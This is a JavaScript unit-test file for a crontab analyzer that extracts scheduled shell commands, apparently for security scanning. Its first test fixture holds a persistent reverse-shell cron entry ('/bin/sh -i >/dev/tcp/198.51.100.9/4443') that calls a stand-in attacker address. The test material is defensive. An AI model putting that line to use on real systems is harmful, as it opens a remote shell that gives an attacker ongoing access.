import { crontabSegments } from './crontab.analyzer.js';

describe('crontabSegments', () => {
  it('should read the command after the five schedule fields or an @ keyword, at its line', () => {
    const text =
      '# ops\nSHELL=/bin/sh\nMAILTO=""\n*/5 * * * * pgrep x || /bin/sh -i >/dev/tcp/198.51.100.9/4443 0<&1\n@reboot /usr/bin/relay --up\n15 3 * * mon-fri echo 50\\% done\n';
    const [seg] = crontabSegments([{ path: 'rtu/crontab', text }]);
    expect(seg.text).toBe(
      'pgrep x || /bin/sh -i >/dev/tcp/198.51.100.9/4443 0<&1\n/usr/bin/relay --up\necho 50% done',
    );
    expect(seg.lang).toBe('shell');
    expect(seg.lineMap).toEqual([4, 5, 6]);
  });
  it('should drop the user field of a system crontab under cron.d', () => {
    const text = '0 * * * * root /usr/local/bin/sync.sh\n';
    expect(crontabSegments([{ path: 'etc/cron.d/sync', text }])[0].text).toBe('/usr/local/bin/sync.sh');
    expect(crontabSegments([{ path: 'deploy/app.cron', text }])[0].text).toBe('root /usr/local/bin/sync.sh');
  });
  it('should read nothing from prose, scripts or files that are not crontabs', () => {
    expect(crontabSegments([{ path: 'notes/crontab.txt', text: 'Run this every night at 3 am.\n' }])).toEqual(
      [],
    );
    expect(crontabSegments([{ path: 'install.sh', text: '0 * * * * /bin/x\n' }])).toEqual([]);
    expect(crontabSegments([{ path: 'docs/schedule', text: '0 * * * * /bin/x\n' }])).toEqual([]);
  });
  it('should read a 1 MiB adversarial crontab quickly', () => {
    const text = `${'1,2,3 '.repeat(40)}\n`.repeat(4400) + `${'* '.repeat(524288)}`;
    const t0 = Date.now();
    crontabSegments([{ path: 'crontab', text }]);
    expect(Date.now() - t0).toBeLessThan(200);
  });
});
